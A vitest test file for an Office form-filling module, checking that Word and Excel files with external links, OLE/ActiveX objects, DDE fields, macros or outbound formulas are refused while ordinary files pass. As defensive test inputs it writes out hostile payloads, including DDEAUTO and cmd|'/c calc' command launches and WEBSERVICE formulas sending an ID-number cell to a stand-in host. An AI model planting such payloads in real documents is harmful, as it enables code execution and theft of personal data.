import { unzipSync, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { bookOf, documentOf, filled, partOf, template, withPart } from '#tests/fixtures/forms/office-file.ts'
import { fillForm, readMarks } from './fill-form.ts'

const SHEET = 'xl/worksheets/sheet1.xml'
const MARKED = '<sheetData><row r="5"><c r="D5" t="inlineStr"><is><t>{{#公民身份号码}}</t></is></c></row></sheetData>'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const run = (inner: string): string => `<w:p><w:r>${inner}</w:r></w:p>`
const field = (...codes: string[]): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

function related(bytes: Uint8Array, part: string, attributes: string): Uint8Array {
  const relations = part.replace(/([^/]*)$/, '_rels/$1.rels')
  return withPart(bytes, relations, (text) =>
    (text || '<Relationships></Relationships>').replace('</Relationships>', `<Relationship Id="rX" ${attributes}/></Relationships>`),
  )
}
const type = (kind: string): string => `Type="${OFFICE}/${kind}"`
const OUT = 'Target="http://example.invalid/x" TargetMode="External"'

/** What both questions to a file answer: undefined where it may be used. */
async function refused(bytes: Uint8Array): Promise<string | undefined> {
  const answers = [await readMarks(bytes), await fillForm(bytes, { head: {}, rows: [{ 公民身份号码: '11010519491231002X' }] })]
  const [marks, fill] = answers.map((each) => (each.ok ? undefined : each.error.code))
  expect(marks).toBe(fill)
  return marks
}

describe('a file that asks for something outside of itself is refused', () => {
  it.each(['image', 'oleObject', 'frame', 'subDocument', 'aFChunk', 'video', 'mailMergeSource', 'transform'])(
    'a document, by a relationship of kind %s',
    async (kind) => {
      expect(await refused(related(documentOf(run('')), 'word/document.xml', `${type(kind)} ${OUT}`))).toBe('fill/links')
    },
  )
  it.each(['oleObject', 'control', 'aFChunk', 'subDocument'])('a document that holds one: %s', async (kind) => {
    expect(await refused(related(documentOf(run('')), 'word/document.xml', `${type(kind)} Target="held.bin"`))).toBe('fill/links')
  })
  it.each([
    ['xl/workbook.xml', 'externalLink', 'externalLinks/externalLink1.xml'],
    ['xl/workbook.xml', 'connections', 'connections.xml'],
    ['xl/workbook.xml', 'xlMacrosheet', 'macrosheets/sheet1.xml'],
    [SHEET, 'oleObject', '../embeddings/oleObject1.bin'],
    [SHEET, 'control', '../activeX/activeX1.xml'],
    ['', 'webextensiontaskpanes', 'xl/webextensions/taskpanes.xml'],
  ])('a workbook, in %s by a relationship of kind %s', async (part, kind, target) => {
    expect(await refused(related(bookOf(MARKED), part, `${type(kind)} Target="${target}"`))).toBe('fill/links')
  })
  it('a picture that is loaded through the relationship of a link', async () => {
    const linked = documentOf(run('<w:drawing><a:blip r:link="rX"/></w:drawing>'))
    expect(await refused(related(linked, 'word/document.xml', `${type('hyperlink')} ${OUT}`))).toBe('fill/links')
  })
  it('however the relationship is written: prefix, numbered signs, capitals in the name of its part', async () => {
    const written = '<p:Relationships><p:Relationship Id="a" Type="x/image" Target="http://a" TargetMode="&#69;xternal"/></p:Relationships>'
    for (const name of ['word/_rels/document.xml.rels', 'word/_RELS/document.xml.RELS'])
      expect(await refused(withPart(documentOf(run('')), name, () => written))).toBe('fill/links')
  })
  it('a picture of the old kind, by its address', async () => {
    expect(await refused(documentOf(run('<w:pict><v:imagedata src="//example.invalid/x.png"/></w:pict>')))).toBe('fill/links')
    const drawn = '<xml><v:shape><v:imagedata src="&#104;ttp://example.invalid/x"></v:shape><br></xml>'
    expect(await refused(bookOf(MARKED, { 'xl/drawings/vmlDrawing1.vml': drawn }))).toBe('fill/links')
  })
  it.each([
    ['DDEAUTO c:\\\\x.exe'],
    ['DDE', 'AUTO c:\\\\x.exe'],
    [' INCLUDE', 'PICTURE "http://example.invalid/x"'],
    ['includetext "\\\\\\\\example.invalid\\\\x"'],
    ['LINK Excel.Sheet.12 "\\\\\\\\example.invalid\\\\x" "" \\a'],
    ['DATABASE \\d "x"'],
  ])('a document, by a field: %s %s', async (...codes) => {
    expect(await refused(documentOf(field(...codes)))).toBe('fill/links')
    expect(await refused(documentOf(`<w:fldSimple w:instr='${codes.join('')}'/>`))).toBe('fill/links')
  })
  it('a document, by a field within another, or with a query for letters', async () => {
    const inner = field('DDE').replace(/<\/?w:p>/g, '')
    expect(await refused(documentOf(field('QUOTE ').replace('</w:instrText></w:r>', `</w:instrText></w:r>${inner}`)))).toBe('fill/links')
    const letters = withPart(documentOf(run('')), 'word/settings.xml', () => '<w:settings><w:mailMerge/></w:settings>')
    expect(await refused(letters)).toBe('fill/links')
  })
  it.each([
    'WEBSERVICE("http://example.invalid/?"&amp;D5)',
    '_xlfn.IMAGE ("http://example.invalid/?"&amp;D5)',
    '_xleta.WEBSERVICE',
    'RTD("x",,D5)',
    '[1]表!A1',
    "'[1]表 1'!A1",
    "'http://example.invalid/[x.xlsx]表'!A1",
    "'\\\\example.invalid\\x'!A1",
    "cmd|'/c calc'!A1",
    '\'a"b\'!A1&amp;WEBSERVICE("x")',
  ])('a workbook, by a formula in a cell, a rule or a name: %s', async (formula) => {
    const cell = MARKED.replace('</row>', `<c r="E5"><f>${formula}</f></c></row>`)
    const rule = `${MARKED}<dataValidations><dataValidation><formula1>${formula}</formula1></dataValidation></dataValidations>`
    for (const sheet of [cell, rule]) expect(await refused(bookOf(sheet))).toBe('fill/links')
    const named = withPart(bookOf(MARKED), 'xl/workbook.xml', (text) =>
      text.replace('</workbook>', `<definedNames><definedName name="n">${formula}</definedName></definedNames></workbook>`),
    )
    expect(await refused(named)).toBe('fill/links')
  })
  it('a workbook with a DDE link, wherever it stands', async () => {
    expect(await refused(bookOf(MARKED, { 'xl/other.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }))).toBe('fill/links')
  })
  it('one whose kind is written with a numbered sign has macros all the same', async () => {
    const typed = withPart(bookOf(MARKED), '[Content_Types].xml', (text) =>
      text.replace('vnd.openxmlformats-officedocument.spreadsheetml.sheet.main', 'vnd.ms-excel.sheet.macro&#69;nabled.main'),
    )
    expect(await refused(typed)).toBe('fill/macros')
  })
  it('under whatever name it stands, and in whatever signs', async () => {
    const asking = MARKED.replace('</row>', '<c r="E5"><f>WEBSERVICE("x")</f></c></row>')
    for (const name of ['other/sheet.bin', 'xl/media/a.svg', 'xl/drawings/a.vml', 'a.png'])
      expect(await refused(bookOf(MARKED, { [name]: `<worksheet>${asking}</worksheet>` }))).toBe('fill/links')
    const drawn = '<xml><v:imagedata src="http://example.invalid/x"></xml>'
    const wide = Uint8Array.from([0xff, 0xfe, ...Array.from(drawn, (sign) => [sign.charCodeAt(0), 0]).flat()])
    expect(await refused(zipSync({ ...unzipSync(bookOf(MARKED)), 'xl/a.vml': wide }))).toBe('fill/links')
    expect(await refused(zipSync({ ...unzipSync(bookOf(MARKED)), 'xl/a.xml': wide.slice(2) }))).toBe('fill/unreadable')
  })
  it('one in signs that Office reads otherwise than the program is not read at all', async () => {
    const other = withPart(bookOf(MARKED), SHEET, (text) => `<?xml version="1.0" encoding="UTF-7"?>${text}`)
    expect(await refused(other)).toBe('fill/unreadable')
  })
})

describe('what an honest file has is let through', () => {
  it('the template that Word has made it from is forgotten', async () => {
    const settings = '<w:settings><w:zoom w:percent="100"/><w:attachedTemplate r:id="rX"/></w:settings>'
    const attached = related(
      withPart(documentOf(run('<w:t>{{单位}}</w:t>')), 'word/settings.xml', () => settings),
      'word/settings.xml',
      `${type('attachedTemplate')} Target="file:///\\\\example.invalid\\Normal.dotm" TargetMode="External"`,
    )
    const bytes = await filled(attached, { head: { 单位: '云南路' }, rows: [] })
    expect(partOf(bytes, 'word/settings.xml')).not.toContain('attachedTemplate')
    expect(partOf(bytes, 'word/settings.xml')).toContain('<w:zoom w:percent="100"/>')
    expect(partOf(bytes, 'word/_rels/settings.xml.rels')).not.toContain('example.invalid')
    expect(partOf(bytes, 'word/document.xml')).toContain('云南路')
  })
  it('links to click on, pictures and fields of its own, comments drawn by Excel', async () => {
    const clicked = documentOf('<w:p><w:hyperlink r:id="rX"><w:r><w:t>{{单位}}</w:t></w:r></w:hyperlink></w:p>' + field('PAGE'))
    expect(await refused(related(clicked, 'word/document.xml', `${type('hyperlink')} ${OUT}`))).toBeUndefined()
    expect(await refused(related(clicked, 'word/document.xml', `${type('image')} Target="media/seal.png"`))).toBeUndefined()
    expect(await refused(documentOf(field(' HYPERLINK "http://example.invalid/link" ') + field('= 1 + 1')))).toBeUndefined()
    const drawn = '<xml><v:shape><v:fill color2="#ffffe1"/><v:textbox><br></v:textbox><v:imagedata o:relid="rId1"/></v:shape></xml>'
    expect(await refused(bookOf(MARKED, { 'xl/drawings/vmlDrawing1.vml': drawn }))).toBeUndefined()
    const seal = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'
    expect(await refused(bookOf(MARKED, { 'xl/media/seal.svg': seal, 'xl/media/seal.png': '\u0089PNG' }))).toBeUndefined()
  })
  it.each([
    'IF(D5="a|b","见[1]表!A1","无")',
    "SUM(表1[[#This Row],[1]])&amp;'a|b'!A1",
    "表1['#合计]+表1['#数]",
    'HYPERLINK("#表!A1","回")',
    'DISPIMG("ID_1",1)',
    '表!IMAGE+SUM(D5:D5)',
    "SUM('一月:三月'!D5)",
  ])('the formula %s', async (formula) => {
    expect(await refused(bookOf(MARKED.replace('</row>', `<c r="E5"><f>${formula}</f></c></row>`)))).toBeUndefined()
  })
  it('what LibreOffice wrote', async () => {
    for (const name of ['roster.xlsx', 'notice.docx']) expect(await refused(await template(name))).toBeUndefined()
  })
})
